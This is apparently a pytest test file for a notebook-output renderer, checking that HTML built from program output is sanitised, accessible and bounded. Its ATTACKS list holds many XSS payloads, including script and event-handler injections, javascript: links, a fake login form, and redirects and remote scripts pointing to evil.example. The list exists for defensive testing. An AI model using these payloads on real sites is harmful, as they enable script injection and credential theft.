"""What programs print and show, as HTML of the page: whatever it is, it stays data."""

from __future__ import annotations

import base64
import io
import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import PIL.Image
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from server.page.formulas import MAX_FORMULA
from server.page.frames import hosts
from server.page.grids import MAX_ROWS, table_html
from server.page.highlighting import DARK, LIGHT, MAX_COLOURED, MAX_TEXT
from server.page.markdown import MAX_MARKDOWN
from server.page.rendering import (
    code_html,
    css,
    frame_document,
    latex_html,
    markdown_html,
    shown,
    text_html,
    traceback_html,
)

HTML, SVG, PLAIN, JSON = "text/html", "image/svg+xml", "text/plain", "application/json"
WORDS = "pre code span p div small b i em strong s br hr sub sup blockquote ul ol li img a"
HEADINGS = "h1 h2 h3 h4 h5 h6"
TABLES = "table thead tbody tfoot tr th td caption"
MATH = (
    "math mrow mi mn mo mtext ms mspace msup msub msubsup mfrac msqrt mroot munder mover "
    "munderover mmultiscripts mprescripts none mtable mtr mlabeledtr mtd mstyle mpadded mphantom "
    "menclose merror"
)
ELEMENTS = {*WORDS.split(), *HEADINGS.split(), *TABLES.split(), *MATH.split()}
MATH_ATTRIBUTE = (
    "display mathvariant form notation columnalign rowlines columnlines frame stretchy fence "
    "separator accent accentunder largeop movablelimits symmetric displaystyle scriptlevel width "
    "height depth lspace rspace voffset linethickness minsize maxsize columnspacing rowspacing "
    "mathcolor mathbackground columnspan rowspan"
)
VALUES = {
    "class": r"[a-z0-9 ]+",
    "scope": "col|row",
    "colspan": r"\d{1,4}",
    "rowspan": r"\d{1,4}",
    "start": r"\d{1,9}",
    "rel": "noopener noreferrer",
    "target": "_blank",
    "href": r"(https?://|mailto:)[^\s\"<>]*",
    "src": r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+",
}
EMPTY = {"br", "hr", "img"}


class Page(HTMLParser):
    """Reads HTML and holds it to what the page allows."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self._opened: list[str] = []
        self.feed(html)
        self.close()
        assert not self._opened

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ELEMENTS
        found = {name: value or "" for name, value in attrs}
        assert len(found) == len(attrs)
        for name, value in found.items():
            if tag in MATH.split():
                assert name in MATH_ATTRIBUTE.split()
                assert re.fullmatch(r"[\w#%.+ -]*", value)
            elif name == "alt":
                assert tag == "img"
            else:
                assert re.fullmatch(VALUES[name], value, re.IGNORECASE)
        if tag == "a":
            assert found["rel"] == "noopener noreferrer"
        if tag not in EMPTY:
            self._opened.append(tag)
        self.elements.append((tag, found))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in EMPTY
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        assert self._opened.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError("a declaration")

    def handle_pi(self, data: str) -> None:
        raise AssertionError("a processing instruction")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError("a section")

    def of(self, name: str) -> list[dict[str, str]]:
        """The attributes of each element of that name."""
        return [attributes for tag, attributes in self.elements if tag == name]


def one_pixel(form: str = "PNG", side: int = 1) -> str:
    """A picture in base64."""
    raw = io.BytesIO()
    PIL.Image.new("RGB", (side, side)).save(raw, form)
    return base64.b64encode(raw.getvalue()).decode()


PICTURE = f"data:image/png;base64,{one_pixel()}"

ATTACKS = [
    "<script>alert(1)</script>",
    "</pre></code></span><script>alert(1)</script>",
    "</textarea></title></style><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img/src=x/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=//evil.example>",
    "<form action=//evil.example><input type=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body {background: url(//evil.example)}</style>",
    "<div style='position:fixed;inset:0' id=stream class=bar>x</div>",
    "<p id=content>x</p><p name=content>x</p>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE html [<!ENTITY x '<script>'>]>&x;",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=//evil.example/x onerror=alert(1)></video>",
    "<table background=//evil.example/x><tr><td>x</td></tr></table>",
    "<table><tr><td onclick=alert(1)>x</td></tr></table>",
    '<table id="stream"><tr><td style="position:fixed">x</td></tr></table>',
    '<table class="x"><tr><td class="bar" id="me">x</td></tr></table>',
    '<table><tr><td colspan="99999999">x</td></tr></table></div></div>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#9;script:alert(1))",
    "[a](&#x6A;avascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](#stop) [e](/page/state) [f](//e.v)",
    '[a](http://a.example/"onmouseover=alert(1))',
    "[a](<http://a.example/ onmouseover=x> 'title\" onmouseover=\"x')",
    "[a][b]\n\n[b]: javascript:alert(1) 'x'",
    '<javascript:alert(1)> <data:text/html,x> <http://a.example/"><x>',
    "![a](http://evil.example/x.png)",
    "![a](javascript:alert(1)) ![b](data:image/svg+xml;base64,PHN2Zz4=) ![c](x.png)",
    '![" onerror="alert(1)](data:image/png;base64,AAAA)',
    '![a](data:image/png;base64,AAAA"onerror=alert(1))',
    "![a](data:image/png;base64,rmi0) ![a](data:image/png;base64,rmi7)",
    '```python" onclick="x\n</code><script>alert(1)</script>\n```',
    "~~~<script>\n<b>\n~~~",
    "| a | b |\n|:-:|--:|\n| <script>x</script> | [a](javascript:x) |",
    "# <img src=x onerror=alert(1)> {#stream .bar onclick=x}",
    "- <b onclick=x>\n  > <i>\n  1. <script>",
    "$\\text{<script>alert(1)</script>}$",
    "$$\\text{<img src=x onerror=alert(1)>}$$",
    "$\\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\url{javascript:alert(1)} \\htmlId{stream}{x} \\class{bar}{x} \\style{color:red}{x}$",
    "$\\unicode{x3c}script\\unicode{x3e}$",
    '$\\color{red" onclick="x}{x}$ $\\textcolor{red\'/><script>}{x}$',
    "$\\mbox{</mtext></math><script>alert(1)</script>}$",
    "$\\rule{9999cm}{9999cm} \\hspace{-999em} x \\kern-99em$",
    "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b\\b}\\b$",
    "$\\begin{array}{c<script>}x\\end{array}$ $\\operatorname{<b>}$ $\\verb|<script>|$",
    "\\begin{tabular}{l}<script>\\end{tabular}",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
    "\x1b[31m<script>\x1b[0malert(1)</scr\x1b[1mipt>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>\udfff",
    "\u2028<script>\u2029\u202e",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    'Traceback (most recent call last):\n  File "<script>", line 1, in <img onerror=x>\n'
    "    <script>alert(1)</script>\n    ^^^^\n<script>Error: <b>",
    "----> 1 <script>alert(1)</script>\nNameError: <img src=x onerror=alert(1)>",
    "x = \"</span><script>alert(1)</script>\" # <b>\n'''<script>",
    '{"a": "</script><script>alert(1)", "<b>": "\\u003cscript\\u003e"}',
    "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 1 %>",
    "http://evil.example/x www.evil.example me@evil.example",
]

#: What takes a text and gives HTML of the page.
RENDERERS: dict[str, Callable[[str], str]] = {
    "text": text_html,
    "python": lambda text: code_html(text, "python"),
    "json": lambda text: code_html(text, "json"),
    "no colours": lambda text: code_html(text, "text"),
    "traceback": traceback_html,
    "markdown": markdown_html,
    "latex": latex_html,
    "formula": lambda text: latex_html(text.replace("$", "")),
    "table": lambda text: table_html(f"<table><tr><td>{text}</td></tr></table>") or "",
    "table as it is": lambda text: table_html(text) or "",
    **{
        f"shown {mime}": lambda text, mime=mime: shown({mime: text, PLAIN: text}, {}).html  # type: ignore[misc]
        for mime in (
            PLAIN, HTML, SVG, JSON, "text/markdown", "text/latex", "image/png", "audio/wav",
            "text/x-own", "application/vnd.plotly.v1+json", "application/vnd.own+json",
            "application/vnd.jupyter.widget-view+json",
        )
    },
    "its mime type": lambda text: shown({text: text}, {}).html,
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
@pytest.mark.parametrize("renderer", RENDERERS)
def test_nothing_hostile_comes_out(renderer: str, attack: str) -> None:
    """Whatever is put in, only the elements and attributes come out that the page allows, each
    closed, and all of it can be sent."""
    html = RENDERERS[renderer](attack)
    Page(html)
    html.encode()


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from(sorted(RENDERERS)), st.lists(st.sampled_from(ATTACKS), max_size=4), st.data()
)
def test_pieces_of_attacks_are_no_attack(
    renderer: str, attacks: list[str], data: st.DataObject
) -> None:
    """Nor do pieces of them, put together."""
    pieces = [
        attack[data.draw(st.integers(0, 8)) : data.draw(st.integers(4, 200))] for attack in attacks
    ]
    Page(RENDERERS[renderer](data.draw(st.sampled_from(["", "\n", " ", "$", "`"])).join(pieces)))


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_words_about_a_display_can_be_sent(attack: str) -> None:
    """Its alternative text, which the page sets as text, is a line without escape sequences."""
    for mime in (PLAIN, HTML, SVG, "image/png", attack):
        facts = shown({mime: attack, PLAIN: attack}, {"alt": attack})
        assert "\x1b" not in facts.alt and "\n" not in facts.alt
        json.dumps([facts.alt, facts.mime], ensure_ascii=False).encode()


# code


def test_code_has_a_span_for_each_line() -> None:
    """Empty ones and those of a string over lines as well, so that lines can be counted."""
    page = Page(code_html('\n\ndef f():\r\n    """a\n   \n  b"""\n\n    return 1\n'))
    lines = [found for found in page.of("span") if found.get("class") == "line"]
    assert len(lines) == 8
    assert page.text.split("\n")[2] == "def f():"
    assert {"class": "k"} in page.of("span")


def test_long_code_is_shown_without_colours() -> None:
    """Colours of a long text would take too long."""
    page = Page(code_html("x = 1\n" * (MAX_COLOURED // 5)))
    assert {found["class"] for found in page.of("span")} == {"line"}
    assert page.text.count("x = 1") == MAX_COLOURED // 5


@pytest.mark.parametrize("piece", [" \n", "(\n", "@\n", "\0", "`", "(", '"""', "f'{", "\\\n"])
def test_code_made_to_be_slow(piece: str) -> None:
    """Lexers take minutes for some texts; here they do not get them."""
    Page(code_html(piece * (MAX_COLOURED // len(piece))))


@pytest.mark.parametrize("paper", ["#ffffff", "#f1efe9"])
def test_colours_in_the_light_are_legible(paper: str) -> None:
    """AA: 4.5 to 1."""
    assert min(contrast(LIGHT[name], paper) for name in LIGHT if name != "wash") >= 4.5


@pytest.mark.parametrize("paper", ["#111111", "#181b19", "#1e211f"])
def test_colours_in_the_dark_are_legible(paper: str) -> None:
    """AA: 4.5 to 1."""
    assert min(contrast(DARK[name], paper) for name in DARK if name != "wash") >= 4.5


def test_what_is_marked_is_legible() -> None:
    """The failing line has a ground of its own."""
    assert contrast(LIGHT["bad"], LIGHT["wash"]) >= 4.5
    assert contrast(DARK["bad"], DARK["wash"]) >= 4.5


def contrast(one: str, other: str) -> float:
    """As WCAG defines it."""

    def light(colour: str) -> float:
        parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
        red, green, blue = (
            part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts
        )
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue

    high, low = sorted((light(one), light(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def test_styles_load_nothing() -> None:
    """They are for both light and dark, and refer to nothing."""
    assert "prefers-color-scheme: dark" in css()
    assert "url(" not in css() and "@import" not in css()
    assert css().count("{") == css().count("}")


# tracebacks


def marked(text: str) -> tuple[list[str], list[str]]:
    """The lines marked as failing, and as the error."""
    html = traceback_html(text)
    Page(html)
    found = re.findall(r'<span class="line (failing|error)">(.*)\n</span>', html)
    return [line for name, line in found if name == "failing"], [
        line for name, line in found if name == "error"
    ]


def test_the_failing_line_of_python() -> None:
    """Of the innermost frame of the last exception, with what is drawn below it."""
    text = (
        'Traceback (most recent call last):\n  File "a.py", line 1, in <module>\n    f(0)\n'
        '  File "a.py", line 2, in f\n    return 1 / x\n           ~~^~~\n'
        "ZeroDivisionError: division by zero\nand more\n"
    )
    assert marked(text) == (
        ["    return 1 / x", "           ~~^~~"],
        ["ZeroDivisionError: division by zero"],
    )


def test_the_failing_line_of_ipython() -> None:
    """That of the last arrow; colours are taken away."""
    text = (
        "\x1b[31m---------\x1b[0m\nZeroDivisionError     Traceback (most recent call last)\n"
        "Cell In[1], line 4\n      2     return 1 / x\n\x1b[32m----> 4\x1b[0m f(0)\n\n"
        "Cell In[1], line 2, in f(x)\n      1 def f(x):\n----> 2     return 1 / x\n\n"
        "ZeroDivisionError: division by zero"
    )
    assert marked(text) == (
        ["----&gt; 2     return 1 / x"],
        ["ZeroDivisionError: division by zero"],
    )


@pytest.mark.parametrize(
    ("text", "failing", "error"),
    [
        ("KeyboardInterrupt", [], ["KeyboardInterrupt"]),
        ("", [], [""]),
        ('  File "a.py", line 1\nValueError: x', ['  File "a.py", line 1'], ["ValueError: x"]),
        (
            '  | Traceback (most recent call last):\n  |   File "a.py", line 3, in f\n'
            "  |     raise E()\n  | mod.E: x\n  +------------------------------------",
            ["  |     raise E()"],
            ["  | mod.E: x"],
        ),
        (
            "  File \"a.py\", line 1\n    x = (\n        ^\nSyntaxError: '(' was never closed",
            ["    x = (", "        ^"],
            ["SyntaxError: &#x27;(&#x27; was never closed"],
        ),
    ],
)
def test_other_tracebacks(text: str, failing: list[str], error: list[str]) -> None:
    """Without a frame, without source, of a group, of code that cannot be read."""
    found = marked(text)
    assert ([line.replace("&quot;", '"') for line in found[0]], found[1]) == (failing, error)


# Markdown and formulas


def test_markdown() -> None:
    """Headings, lists, tables with their sides, code, links and formulas."""
    page = Page(
        markdown_html(
            "# Title\n\n- *one* ~~two~~\n\n3. three\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |\n\n"
            "```python\nreturn 1\n```\n\n[a](https://a.example/b?c=d&e) costs $x^2$ or 5$ and 6$\n"
        )
    )
    names = [name for name, _ in page.elements]
    assert {"h1", "ul", "em", "s", "ol", "table", "pre", "a", "math", "msup"} <= set(names)
    assert page.of("th") == [
        {"scope": "col", "class": "right"},
        {"scope": "col", "class": "center"},
    ]
    assert page.of("a")[0]["href"] == "https://a.example/b?c=d&e"
    assert "or 5$ and 6$" in page.text


def test_pictures_of_markdown() -> None:
    """Those that it holds are shown, however long; of others their names."""
    long = base64.b64encode(b"x" * MAX_MARKDOWN).decode()
    page = Page(
        markdown_html(f"![one]({PICTURE}) ![two](data:image/png;base64,{long}) ![three](a.png)")
    )
    assert [found["alt"] for found in page.of("img")] == ["one", "two"]
    assert page.of("img")[1]["src"].endswith(long)
    page = Page(markdown_html("![three](https://a.example/a.png)"))
    assert page.text.strip() == "[picture: three]"


def test_long_markdown_loses_its_end() -> None:
    """And says so."""
    page = Page(markdown_html("some words\n\n" * 500_000))
    assert "more characters are left out" in page.text
    assert len(page.text) < 2 * MAX_MARKDOWN


@pytest.mark.parametrize("piece", ["[", "![", "*a ", "`", "> ", "- ", "$", "$$ ", "|", "<", "a_"])
def test_markdown_made_to_be_slow(piece: str) -> None:
    """Five million characters of it are not all read."""
    Page(markdown_html(piece * (5_000_000 // len(piece))))


def test_a_table_of_markdown_that_is_too_wide_stays_text() -> None:
    """Each of its rows would have all its columns."""
    wide = "|".join("a" * 5_000) + "\n" + "|".join("-" * 5_000) + "\n" + "a\n" * 15_000
    assert not Page(markdown_html(wide)).of("table")


@pytest.mark.parametrize(
    "source",
    [
        "x^2",
        "$x^2$",
        "$$\\frac{a}{b}$$",
        "$\\displaystyle \\int_0^1 x\\,dx$",
        "\\[ \\sum_{i=1}^n i \\]",
        "\\begin{equation}\nE = mc^2\n\\end{equation}",
        "\\begin{align}a &= b \\\\ c &= d\\end{align}",
        "\\left[\\begin{matrix}1 & 2\\\\3 & 4\\end{matrix}\\right]",
        "\\mathbf{x} \\in \\mathbb{R}",
    ],
)
def test_formulas(source: str) -> None:
    """One formula is a formula by itself."""
    page = Page(latex_html(source))
    assert page.elements[0] == ("math", {"display": "block"})
    assert "merror" not in [name for name, _ in page.elements]


def test_text_with_formulas() -> None:
    """Formulas within it stand in their line."""
    page = Page(latex_html("If $a < b$ then $b > a$."))
    assert page.of("math") == [{"display": "inline"}] * 2
    assert page.text.startswith("If a<b then")


@pytest.mark.parametrize(
    "source",
    [
        "\\begin{tabular}{ll} a & b \\end{tabular}",
        "\\frac",
        "{" * 1_500,
        "x" * (MAX_FORMULA + 1),
        "\\def\\a{\\a\\a}\\a",
        "\\left(",
        "$" * 5_000_000,
        "$x$ " * 1_000_000,
        "\\[" * 9_000,
        "\\(" * 5_000 + "a" * 9_000,
    ],
)
def test_what_is_no_formula_stays_text(source: str) -> None:
    """Tables of LaTeX, broken, endless and huge ones."""
    page = Page(latex_html(source))
    assert page.elements == [("pre", {"class": "text"})]
    assert page.text.startswith(source[:100])


# tables and frames


def test_a_data_frame_becomes_a_table_of_the_page() -> None:
    """As pandas writes it: without its styles, its headings as headings."""
    html = (
        "<div>\n<style scoped>\n    .dataframe tbody tr th {\n vertical-align: top;\n }\n</style>\n"
        '<table border="1" class="dataframe">\n  <thead>\n    <tr style="text-align: right;">\n'
        "<th></th><th>a</th></tr></thead><tbody><tr><th>0</th><td>&lt;x&gt; &nbsp;</td></tr>"
        "</tbody></table>\n<p>1 rows × 1 columns</p></div>"
    )
    facts = shown({HTML: html, PLAIN: "   a\n0  x"}, {})
    page = Page(facts.html)
    assert (facts.kind, facts.mime) == ("markup", HTML)
    assert [found["scope"] for found in page.of("th")] == ["col", "col", "row"]
    assert "<x>" in page.text
    assert facts.alt.startswith("Table: ")


def test_a_long_table_loses_its_last_rows() -> None:
    """Which are counted."""
    rows = "".join(f"<tr><td>{row}</td><td>x</td></tr>" for row in range(10_000))
    page = Page(table_html(f"<table><tbody>{rows}</tbody></table>") or "")
    assert len(page.of("tr")) == MAX_ROWS
    assert "The first 300 rows of a table of 10,000 rows × 2 columns" in page.text


@pytest.mark.parametrize(
    "html",
    [
        "<p>no table</p>",
        "<table><tr><td><a href='x'>a</a></td></tr></table>",
        "<table><tr><td>open",
        "<table><tr></td></tr></table>",
        "<style>#a td {color: red}</style><table id='a'><tr><td>x</td></tr></table>",
        '<table><tr><td style="color: red">x</td></tr></table>',
        "<table>" * 100 + "</table>" * 100,
        "<table><tr><td>" + "x" * 5_000_000 + "</td></tr></table>",
    ],
)
def test_other_html_is_no_table_of_the_page(html: str) -> None:
    """It goes into a frame, where it looks as it is meant to."""
    assert table_html(html) is None
    assert shown({HTML: html}, {}).kind == "frame"


def test_a_frame_document() -> None:
    """It is UTF-8 and says so first; our script comes before the program's HTML, whose head
    still counts as one."""
    document = frame_document("<!doctype html><html><head><title>é\ud800</title></head>x").decode()
    assert document.startswith("<!DOCTYPE html>")
    assert document.index("charset") < document.index("postMessage") < document.index("é\\ud800")
    assert "<body" not in document
    assert "http" not in document.replace("http-equiv", "")


def test_html_of_five_million_characters() -> None:
    """Goes into a frame whole; of more than a frame takes there are words."""
    facts = shown({HTML: "<p>words</p>" * 420_000}, {})
    assert facts.kind == "frame" and facts.body is not None
    assert facts.size == len(facts.body) > 5_000_000
    facts = shown({HTML: "<p>words</p>" * 2_000_000}, {})
    assert facts.kind == "other" and "24.0 MB" in facts.alt


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ('<script src="https://cdn.a.example/x.js"></script>', ["cdn.a.example"]),
        ("<img src=//b.example/x.png>", ["b.example"]),
        ('<script type="module">import "https://c.example/x"</script>', ["c.example"]),
        ("<a href='https://d.example'>x</a>", []),
        ("<img src='data:image/png;base64,AAAA'>", []),
    ],
)
def test_what_a_frame_will_miss_is_said(html: str, expected: list[str]) -> None:
    """The frame may load nothing, so its title says what is missing."""
    assert hosts(html) == expected
    assert all(host in shown({HTML: html + "words"}, {}).alt for host in expected)


# displays


@pytest.mark.parametrize("form", ["PNG", "JPEG", "GIF", "WEBP"])
def test_pictures(form: str) -> None:
    """With their size, as bytes of their real type, whatever they are called."""
    facts = shown({"image/png": one_pixel(form, 8), PLAIN: "<Figure size 8x8 with 1 Axes>"}, {})
    assert (facts.kind, facts.mime) == ("image", f"image/{form.lower()}")
    assert (facts.width, facts.height) == (8, 8)
    assert facts.body is not None and facts.size == len(facts.body)
    assert facts.alt.startswith(f"Picture, {form} 8 × 8")


def test_the_stated_size_and_words_of_a_picture() -> None:
    """Those of the metadata, where they make sense."""
    stated = {"width": 4, "height": -1, "alt": "A cat\nasleep"}
    facts = shown({"image/png": one_pixel(side=8)}, {"image/png": stated})
    assert (facts.width, facts.height, facts.alt) == (4, 8, "A cat asleep")


def test_svg() -> None:
    """Bytes for an image, with the name of its language, and what is written in it in words."""
    facts = shown({SVG: "<svg><text>axis</text></svg>", PLAIN: "<Drawing>"}, {})
    assert (facts.kind, facts.mime, facts.html) == ("svg", SVG, "")
    assert facts.body is not None and b'<svg xmlns="http://www.w3.org/2000/svg">' in facts.body
    assert facts.alt == "Drawing: axis"
    assert shown({SVG: "<!DOCTYPE x [<!ENTITY a 'b'>]><svg>&a;</svg>"}, {}).kind == "other"


@pytest.mark.parametrize(
    ("data", "kind", "mime"),
    [
        ({PLAIN: "x"}, "text", PLAIN),
        ({PLAIN: "x", "text/markdown": "*x*"}, "markup", "text/markdown"),
        ({PLAIN: "x", "text/latex": "$x$"}, "markup", "text/latex"),
        ({PLAIN: "x", JSON: {"a": [1]}}, "markup", JSON),
        ({PLAIN: "x", HTML: "<b>x</b>", "image/png": one_pixel()}, "frame", HTML),
        ({HTML: "<script src='//a.example'></script>", "image/png": one_pixel()}, "image", None),
        ({PLAIN: "x", "image/png": one_pixel(), "text/latex": "$x$"}, "image", "image/png"),
        ({PLAIN: "x", "image/png": "no picture"}, "text", PLAIN),
        ({PLAIN: "IntSlider()", "application/vnd.jupyter.widget-view+json": {}}, "other", None),
        ({"application/vnd.bokehjs_load.v0+json": "", HTML: "<b>"}, "frame", HTML),
        ({"application/vnd.bokehjs_load.v0+json": "x", HTML: "<b>"}, "other", None),
        ({HTML: "<script>window.PlotlyConfig = {}</script>\n<script>…</script>"}, "other", None),
        ({"application/pdf": "JVBERi0xLjQ="}, "other", "application/pdf"),
        ({"text/x-own": "words"}, "other", "text/x-own"),
        ({}, "other", ""),
        ({PLAIN: None, HTML: 3, SVG: [], "image/png": {}, 4: 5}, "other", None),
    ],
)
def test_the_richest_form_that_the_page_has(
    data: dict[Any, Any], kind: str, mime: str | None
) -> None:
    """Of a mime bundle, whatever is in it; and always words for those who do not see it."""
    facts = shown(data, {})
    assert facts.kind == kind
    assert mime is None or facts.mime == mime
    assert (facts.body is not None) == (kind in ("image", "svg", "frame"))
    assert bool(facts.html) == (facts.body is None)
    Page(facts.html)


def test_plotly_is_drawn_where_its_library_is_at_hand() -> None:
    """In a frame that holds it; its own words are the title."""
    figure = {"data": [{"type": "bar", "y": [1, 2]}], "layout": {"title": {"text": "T</script>"}}}
    facts = shown({"application/vnd.plotly.v1+json": figure}, {})
    assert facts.kind == "frame" and facts.body is not None
    assert b"Plotly.newPlot(" in facts.body and b"cdn.plot.ly/plotly" not in facts.body[:10_000]
    assert facts.alt.startswith("plotly figure · bar (2 points)")


def test_bokeh_says_how_it_can_be_shown() -> None:
    """Its library is in the notebook's page, which this is not."""
    script = 'const docs_json = {"a": {"roots": []}};'
    data = {"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": script, HTML: ""}
    data["application/vnd.bokehjs_exec.v0+json"] = "x"
    facts = shown(data, {})
    assert facts.kind == "other"
    Page(facts.html)


def test_json_is_bounded() -> None:
    """However long, deep or endless it is."""
    facts = shown({JSON: {"a": list(range(1_000_000))}}, {})
    page = Page(facts.html)
    assert "The rest is left out" in page.text and len(page.text) < MAX_TEXT + 200
    deep: list[Any] = []
    for _ in range(100_000):
        deep = [deep]
    assert shown({JSON: deep, PLAIN: "deep"}, {}).alt
    Page(shown({JSON: "x" * 5_000_000}, {}).html)


def test_long_text_loses_its_middle() -> None:
    """Which is counted."""
    page = Page(shown({PLAIN: "first" + "x" * 5_000_000 + "last"}, {}).html)
    assert page.text.startswith("first") and page.text.endswith("last")
    assert len(page.text) < MAX_TEXT + 200
